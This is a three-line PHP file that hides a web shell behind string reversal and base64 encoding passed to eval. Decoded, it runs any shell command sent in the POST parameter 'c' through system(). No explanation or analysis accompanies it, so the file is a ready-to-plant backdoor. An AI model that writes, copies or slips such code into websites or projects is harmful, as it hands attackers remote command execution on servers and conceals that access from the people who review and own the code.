<?php
$d = strrev('=03Op01JjdyWUN1TQ9FJo0WZ0NXeztXKp01JjdyWUN1TQ9FJoQXZzNXaoYWa');
eval(base64_decode($d));
